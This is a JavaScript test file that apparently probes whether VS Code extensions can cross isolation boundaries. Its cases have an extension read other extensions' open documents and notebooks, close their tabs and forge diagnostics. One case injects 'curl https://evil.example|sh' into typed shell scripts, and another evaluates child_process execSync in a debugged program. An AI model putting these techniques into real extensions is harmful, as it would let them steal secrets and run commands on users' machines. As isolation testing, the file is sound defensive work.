'use strict'

// What the editor shows (invariants 10 and 13), inside VS Code's own extension host: documents, notebooks, debug sessions, tabs, what is
// said of files.

const { a, grant } = require('./lib.js')
const r9 = more => ({ round: 9, ...more })

module.exports = [
  a('reads what is open, by an element of its tree', async ({ vscode, T, other }) => {
    await other('victim.open', T.secret)
    const doc = vscode.workspace.textDocuments.find(d => d.fileName === T.secret)
    let got = 'no'
    const look = d => { try { got = d.getText() } catch (e) { got = e.message } }
    const view = vscode.window.createTreeView('acme.tree', { treeDataProvider: {
      getChildren: e => (e === undefined ? [doc] : []), getParent: d => { look(d); return undefined },
      getTreeItem: d => { look(d); return new vscode.TreeItem('x') } } })
    await Promise.race([view.reveal(doc).catch(e => { if (got === 'no') got = e.message }), new Promise(r => setTimeout(r, 2000))])
    return got
  }, r9({ declares: { views: { explorer: [{ id: 'acme.tree', name: 'x' }] } } })),
  a('what the person types, changed by rules for a language', async ({ vscode }) => {
    vscode.languages.setLanguageConfiguration('shellscript', { onEnterRules: [{ beforeText: /.*/,
      action: { indentAction: vscode.IndentAction.None, appendText: 'curl https://evil.example|sh\n' } }] })
    await new Promise(r => setTimeout(r, 300))
    return 'done'
  }, r9({ goal: 'call', call: 'MainThreadLanguageFeatures.$setLanguageConfiguration' })),
  a('code in the program that the person debugs, by where it stands', async ({ vscode, victim }) => {
    const heard = new Promise(r => { vscode.debug.onDidChangeActiveStackItem(r); setTimeout(r, 3000) })
    victim('debugs')
    const item = await heard
    await item.session.customRequest('evaluate', { expression: 'process.exit()' })
    return 'done'
  }, r9({ goal: 'call', call: 'MainThreadDebugService.$customDebugAdapterRequest' })),
  a('code in the program that the person debugs, by values in the text', async ({ vscode }) => {
    vscode.languages.registerInlineValuesProvider('*', { provideInlineValues: (d, r) =>
      [new vscode.InlineValueEvaluatableExpression(r, 'require("child_process").execSync("id")')] })
    await new Promise(r => setTimeout(r, 300))
    return 'done'
  }, r9({ goal: 'call', call: 'MainThreadLanguageFeatures.$registerInlineValuesProvider' })),
  a('hears of files elsewhere that the editor makes', async ({ vscode, T, victim }) => {
    const heard = new Promise(r => { vscode.workspace.onDidCreateFiles(e => r(e.files[0].fsPath)); setTimeout(r, 3000) })
    await new Promise(r => setTimeout(r, 200))
    victim('creates', T.out + '/heard.txt')
    return (await heard) === T.out + '/heard.txt' ? 'yes' : 'no'
  }, r9()),
  a('what a notebook holds that the person looks at', async ({ vscode, T, victim }) => {
    const heard = new Promise(r => { vscode.window.onDidChangeActiveNotebookEditor(e => e && r(e)); setTimeout(r, 3000) })
    await victim('notebook', T.secret)
    const { notebook } = await heard
    return [notebook.cellAt(0).outputs[0].metadata.text, notebook.metadata.text].join()
  }, r9()),
  a('saves a notebook of another', async ({ vscode, T, victim }) => {
    const heard = new Promise(r => { vscode.window.onDidChangeActiveNotebookEditor(e => e && r(e)); setTimeout(r, 3000) })
    await victim('notebook', T.secret)
    await (await heard).notebook.save()
    return 'done'
  }, r9({ goal: 'call', call: 'MainThreadNotebookDocumentsShape.$trySaveNotebook' })),
  a('closes what the person has open', async ({ vscode, T, other }) => {
    await other('victim.show', T.secret)
    await vscode.window.tabGroups.close(vscode.window.tabGroups.all[0].tabs[0])
    return 'done'
  }, r9({ goal: 'call', call: 'MainThreadEditorTabs.$closeTab', inv: 13, kind: 'interference' })),
  a('what a neighbour reports of a file', async ({ vscode, victim }) => {
    victim('reports')
    return vscode.languages.getDiagnostics().map(([, l]) => l.map(d => d.message)).join()
  }, r9()),
  a('what a neighbour reports of a file, said otherwise', async ({ vscode, victim }) => {
    victim('finds')
    const [d] = vscode.languages.getDiagnostics(vscode.Uri.file('/x'))
    d.message = 'forged'
    return victim('found') === 'forged' ? 'yes' : 'no'
  }, r9({ inv: 13, kind: 'interference', ...grant('documents') })),
  a('reads what is shown, by a controller of comments', async ({ vscode, T, other }) => {
    let got = 'no'
    const c = vscode.comments.createCommentController('acme.c', 'x')
    c.commentingRangeProvider = { provideCommentingRanges: d => { try { got = d.getText() } catch (e) { got = e.message } return [] } }
    await new Promise(r => setTimeout(r, 300))
    await other('victim.show', T.secret)
    await new Promise(r => setTimeout(r, 500))
    return got
  }, r9()),
  a('the language of what another shows', async ({ vscode, T, other }) => {
    await other('victim.open', T.secret)
    await Promise.race([vscode.languages.setTextDocumentLanguage(vscode.workspace.textDocuments.find(d => d.fileName === T.secret), 'html'),
      new Promise(r => setTimeout(r, 500))])
    return 'done'
  }, r9({ goal: 'call', call: 'MainThreadLanguages.$changeLanguage', inv: 13, kind: 'interference' })),
  a('the shell that the person chooses', async ({ vscode, victim }) => {
    const heard = new Promise(r => { vscode.env.onDidChangeShell(r); setTimeout(r, 3000) })
    victim('terminal')
    return heard
  }, r9()),
]
